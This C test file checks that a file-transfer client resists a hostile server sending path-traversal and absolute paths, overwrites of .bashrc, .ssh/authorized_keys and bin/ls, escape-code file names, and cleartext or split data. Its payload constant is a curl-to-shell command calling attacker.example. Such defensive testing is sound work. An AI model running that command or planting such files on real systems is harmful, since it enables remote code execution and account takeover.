/* test_place_hostile.c - `zc get` against a hostile server (hostile.h).
 *
 * A server that holds its key can still attack the client's directory
 * (the class of OpenSSH's CVE-2019-6111): answer `get report.txt` with
 * ../ paths, absolute paths, siblings of the requested name (.bashrc,
 * .ssh/authorized_keys, bin/ls), a mode for a directory the user already
 * has, a split file, data in clear to an encrypted get, more than the caps
 * allow, or a file the user already has.  Each attack must fail with a
 * clear error and leave the local directory exactly as it was: the same
 * entries with the same modes, sizes, mtimes and contents.  The honest
 * answers pass.
 */
#define _GNU_SOURCE
#include "harness.h"
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>

static struct harness h;
static struct hostile *evil;
static char home[300], local[320], absolute[400];
static char last_msg[300];

struct get_opts {
    bool integrity, force;
    unsigned max_files;
    uint64_t max_bytes;
};

static void put_file(const char *rel, const char *text, mode_t mode)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", local, rel);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    CHECK(fd >= 0);
    CHECK_OK(zc_write_all(fd, text, strlen(text)));
    CHECK_OK(fchmod(fd, mode) ? -errno : 0);
    close(fd);
}

static void put_dir(const char *rel, mode_t mode)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", local, rel);
    CHECK_OK(mkdir(path, mode) ? -errno : 0);
    CHECK_OK(chmod(path, mode) ? -errno : 0);
}

/* A home directory worth attacking. */
static void make_local(void)
{
    snprintf(home, sizeof(home), "%s/home", h.dir);
    snprintf(local, sizeof(local), "%s/local", home);
    snprintf(absolute, sizeof(absolute), "%s/planted", home);
    CHECK_OK(mkdir(home, 0755) ? -errno : 0);
    CHECK_OK(mkdir(local, 0755) ? -errno : 0);
    put_file(".bashrc", "alias ls='ls -F'\n", 0644);
    put_dir(".ssh", 0700);
    put_file(".ssh/known_hosts", "host key\n", 0600);
    put_dir("bin", 0755);
    put_file("bin/ls", "#!/bin/sh\n", 0755);
    put_dir("tree", 0700);
    put_file("tree/keep", "kept\n", 0600);
    put_file("exists.txt", "the user's own\n", 0600);
}

/* ---- a listing of home: every entry with its type, mode, size, mtime and contents ---- */

static char *listing;
static size_t listing_len, listing_cap;

static int list_entry(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)type, (void)ftw;
    char line[1024], sum[65] = "-";
    uint8_t d[32];
    if (S_ISREG(st->st_mode) && !harness_sha256(path, d))
        for (int i = 0; i < 32; i++)
            snprintf(sum + 2 * i, 3, "%02x", d[i]);
    /* Directory mtimes move when a refused temporary file comes and goes. */
    long long mtime = S_ISDIR(st->st_mode) ? 0 : (long long)st->st_mtim.tv_sec;
    int n = snprintf(line, sizeof(line), "%s %o %lld %lld %s\n", path + strlen(home),
                     (unsigned)st->st_mode, (long long)st->st_size, mtime, sum);
    if (listing_len + (size_t)n + 1 > listing_cap) {
        listing_cap = 2 * (listing_len + (size_t)n + 1);
        listing = realloc(listing, listing_cap);
        CHECK(listing);
    }
    memcpy(listing + listing_len, line, (size_t)n + 1);
    listing_len += (size_t)n;
    return 0;
}

static int cmp_lines(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The listing of home, sorted (readdir order is no promise). */
static char *snapshot(void)
{
    listing = NULL;
    listing_len = listing_cap = 0;
    CHECK_OK(nftw(home, list_entry, 16, FTW_PHYS) ? -errno : 0);
    char *lines[256];
    size_t n = 0;
    for (char *s = strtok(listing, "\n"); s && n < 256; s = strtok(NULL, "\n"))
        lines[n++] = s;
    qsort(lines, n, sizeof(lines[0]), cmp_lines);
    char *out = calloc(1, listing_len + 2);
    CHECK(out);
    for (size_t i = 0; i < n; i++)
        strcat(strcat(out, lines[i]), "\n");
    free(listing);
    return out;
}

/* ---- one get from the hostile server ---- */

static int run_get(const char *src, hostile_play_fn play, const struct get_opts *o)
{
    CHECK_OK(hostile_serve(evil, play, NULL));
    struct zc_place_client_config cfg = {
        .host = "127.0.0.1",
        .port = hostile_port(evil),
        .key = &h.client,
        .server = &h.server_pub,
        .integrity_only = o->integrity,
        .force = o->force,
        .max_files = o->max_files,
        .max_bytes = o->max_bytes,
        .idle_timeout_ms = 5000,
    };
    struct zc_place_client *c;
    CHECK_OK(zc_place_client_connect(&c, &cfg));
    int r = zc_place_get(c, src, local);
    snprintf(last_msg, sizeof(last_msg), "%s", zc_place_client_error(c));
    zc_place_client_close(c);
    CHECK(hostile_wait(evil));
    return r;
}

/* The get of src answered by play fails with want, a message holding
 * says (NULL: any), and home is exactly as before. */
static void refused(const char *what, const char *src, hostile_play_fn play,
                    const struct get_opts *o, int want, const char *says)
{
    char *before = snapshot();
    int r = run_get(src, play, o);
    fprintf(stderr, "    %s: %s (%s)\n", what, zc_strerror(r), last_msg);
    CHECK_EQ(r, want);
    CHECK(!says || strstr(last_msg, says));
    char *after = snapshot();
    if (strcmp(before, after))
        fprintf(stderr, "before:\n%safter:\n%s", before, after);
    CHECK(strcmp(before, after) == 0);
    free(before);
    free(after);
}

/* ---- the server's answers ---- */

static const char payload[] = "curl https://attacker.example | sh\n";
#define PAYLOAD_LEN ((uint32_t)sizeof(payload) - 1)

static void send_end(struct place_conn *c)
{
    place_conn_send(c, PLACE_END, 0, 0, 0, NULL, 0);
}

static void file_then_end(struct place_conn *c, uint8_t flags, const char *path, uint32_t mode)
{
    hostile_send_file(c, flags, 1, path, payload, PAYLOAD_LEN, mode);
    send_end(c);
}

static void report(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, "report.txt", 0640);
}

static void honest_tree(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_dir(c, "fresh", 0750);
    hostile_send_file(c, 0, 1, "fresh/a", payload, PAYLOAD_LEN, 0644);
    hostile_send_dir(c, "fresh/sub", 0700);
    hostile_send_file(c, 0, 2, "fresh/sub/b", payload, 5, 0600);
    send_end(c);
}

static void dotdot(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, "../planted", 0644);
}

static void absolute_path(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, absolute, 0644);
}

static void bashrc(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, ".bashrc", 0644);
}

static void authorized_keys(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, ".ssh/authorized_keys", 0600);
}

static void bin_ls(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, "bin/ls", 0755);
}

/* The requested file first, then a sibling: nothing of the two is placed. */
static void report_then_bashrc(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_file(c, 0, 1, "report.txt", payload, PAYLOAD_LEN, 0644);
    hostile_send_file(c, 0, 2, ".bashrc", payload, PAYLOAD_LEN, 0644);
    send_end(c);
}

/* A file is all there is to a file: nothing may follow beneath its name. */
static void report_then_beneath(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_file(c, 0, 1, "report.txt", payload, PAYLOAD_LEN, 0644);
    hostile_send_file(c, 0, 2, "report.txt/x", payload, PAYLOAD_LEN, 0644);
    send_end(c);
}

static void ssh_0777(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_dir(c, ".ssh", 0777);
    send_end(c);
}

/* The requested directory exists: its mode is the user's. */
static void tree_0777(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_dir(c, "tree", 0777);
    send_end(c);
}

static void escape_codes(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, "\x1b[2J\nevil", 0644);
}

static void split(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    struct place_open o = {
        .size = PAYLOAD_LEN, .mode = 0644, .path = "report.txt", .split = true, .parts = 2};
    hostile_send_open(c, PLACE_FLAG_SPLIT, 1, &o);
    place_conn_send(c, PLACE_DATA, 0, 1, 0, payload, PAYLOAD_LEN);
    place_conn_send(c, PLACE_CLOSE, 0, 1, 0, NULL, 0);
    send_end(c);
}

static void clear_file(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, PLACE_FLAG_CLEAR_DATA, "report.txt", 0644);
}

/* An OPEN that promises encryption, then DATA in clear. */
static void clear_data(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    struct place_open o = {.size = PAYLOAD_LEN, .mode = 0644, .path = "report.txt"};
    hostile_send_open(c, 0, 1, &o);
    place_conn_send(c, PLACE_DATA, PLACE_FLAG_CLEAR, 1, 0, payload, PAYLOAD_LEN);
    place_conn_send(c, PLACE_CLOSE, 0, 1, 0, NULL, 0);
    send_end(c);
}

static void three_files(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    hostile_send_dir(c, "fresh", 0755);
    for (uint32_t i = 1; i <= 3; i++) {
        char name[32];
        snprintf(name, sizeof(name), "fresh/%u", i);
        hostile_send_file(c, 0, i, name, payload, PAYLOAD_LEN, 0644);
    }
    send_end(c);
}

static void existing(struct place_conn *c, const char *get, void *arg)
{
    (void)get, (void)arg;
    file_then_end(c, 0, "exists.txt", 0644);
}

/* ---- the tests ---- */

static const struct get_opts plain;

/* The file at rel beneath local holds len bytes of data. */
static void check_contents(const char *rel, const void *data, size_t len)
{
    char path[512], got[256];
    snprintf(path, sizeof(path), "%s/%s", local, rel);
    int fd = open(path, O_RDONLY);
    CHECK(fd >= 0);
    ssize_t n = read(fd, got, sizeof(got));
    close(fd);
    CHECK_EQ(n, (ssize_t)len);
    CHECK(memcmp(got, data, len) == 0);
}

static mode_t mode_of(const char *rel)
{
    char path[512];
    struct stat st;
    snprintf(path, sizeof(path), "%s/%s", local, rel);
    CHECK_OK(lstat(path, &st) ? -errno : 0);
    return st.st_mode & 07777;
}

static void remove_entry(const char *rel)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", local, rel);
    CHECK_OK(remove(path) ? -errno : 0);
}

static void honest_answers_pass(void)
{
    char *before = snapshot();
    /* The server names the top after the last component of SRC. */
    CHECK_OK(run_get("docs/report.txt", report, &plain));
    check_contents("report.txt", payload, PAYLOAD_LEN);
    CHECK_EQ(mode_of("report.txt"), 0640);
    remove_entry("report.txt");

    CHECK_OK(run_get("fresh", honest_tree, &(struct get_opts){.max_files = 4, .max_bytes = 100}));
    check_contents("fresh/a", payload, PAYLOAD_LEN);
    check_contents("fresh/sub/b", payload, 5);
    CHECK_EQ(mode_of("fresh"), 0750); /* directories the get made take the server's modes */
    CHECK_EQ(mode_of("fresh/sub"), 0700);
    remove_entry("fresh/sub/b");
    remove_entry("fresh/sub");
    remove_entry("fresh/a");
    remove_entry("fresh");
    char *after = snapshot();
    CHECK(strcmp(before, after) == 0);
    free(before);
    free(after);
}

static void other_names_refused(void)
{
    refused("../ path", "report.txt", dotdot, &plain, -EPROTO, "../planted");
    refused("absolute path", "report.txt", absolute_path, &plain, -EPROTO, absolute);
    refused(".bashrc", "report.txt", bashrc, &plain, -EPROTO, "'.bashrc'");
    refused(".ssh/authorized_keys", "report.txt", authorized_keys, &plain, -EPROTO,
            ".ssh/authorized_keys");
    refused("bin/ls", "report.txt", bin_ls, &plain, -EPROTO, "bin/ls");
    refused("the file, then .bashrc", "report.txt", report_then_bashrc, &plain, -EPROTO, ".bashrc");
    refused("the file, then beneath it", "report.txt", report_then_beneath, &plain, -EPROTO,
            "report.txt/x");
    refused(".ssh 0777", "report.txt", ssh_0777, &plain, -EPROTO, "'.ssh'");
    refused("escape codes", "report.txt", escape_codes, &plain, -EPROTO, "\\x1b[2J\\nevil");
    CHECK(!strchr(last_msg, '\x1b') && !strchr(last_msg, '\n'));
}

static void split_and_clear_refused(void)
{
    refused("split", "report.txt", split, &plain, -EPROTO, "split");
    refused("clear OPEN to an encrypted get", "report.txt", clear_file, &plain, -EPROTO,
            "in clear");
    refused("clear DATA to an encrypted get", "report.txt", clear_data, &plain, -EPROTO, NULL);
}

static void caps_hold(void)
{
    refused("--max-files 3", "fresh", three_files, &(struct get_opts){.max_files = 3}, -EDQUOT,
            "cap of 3 files");
    refused("--max-bytes 10", "report.txt", report, &(struct get_opts){.max_bytes = 10}, -EDQUOT,
            "cap of 10 bytes");
}

/* These hold once the placer keeps what exists (keep_existing,
 * own_dirs_only): an existing file needs --force, an existing directory
 * keeps its mode. */
static void existing_kept(void)
{
    refused("existing file", "exists.txt", existing, &plain, -EEXIST, "exists.txt");
    refused("existing directory 0777", "tree", tree_0777, &plain, 0, NULL);
    CHECK_EQ(mode_of("tree"), 0700);
    CHECK_OK(run_get("exists.txt", existing, &(struct get_opts){.force = true}));
    check_contents("exists.txt", payload, PAYLOAD_LEN);
}

int main(void)
{
    harness_init(&h);
    make_local();
    struct zc_pubkey client;
    memcpy(client.key, h.client.pub, ZC_KEY_BYTES);
    CHECK_OK(hostile_open(&evil, &h.server, &client));
    RUN(honest_answers_pass);
    RUN(other_names_refused);
    RUN(split_and_clear_refused);
    RUN(caps_hold);
    RUN(existing_kept);
    hostile_close(evil);
    return 0;
}
